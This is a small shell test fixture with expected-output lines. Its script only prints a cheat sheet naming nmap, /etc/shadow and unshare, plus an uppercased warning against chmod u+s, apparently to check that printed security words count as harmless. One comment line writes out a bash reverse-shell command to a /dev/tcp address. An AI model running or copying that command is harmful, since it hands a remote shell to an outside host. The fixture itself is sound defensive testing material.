# expect: completed
# stdout: nmap        scans ports
# stdout: /etc/shadow holds password hashes
# stdout: unshare     makes namespaces
# stdout: CHMOD U+S IS A BAD IDEA
# note: A cheat sheet that is printed. Words are not deeds.

# Do not: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
cat <<'EOF'
nmap        scans ports
/etc/shadow holds password hashes
unshare     makes namespaces
EOF
echo "chmod u+s is a bad idea" | tr a-z A-Z
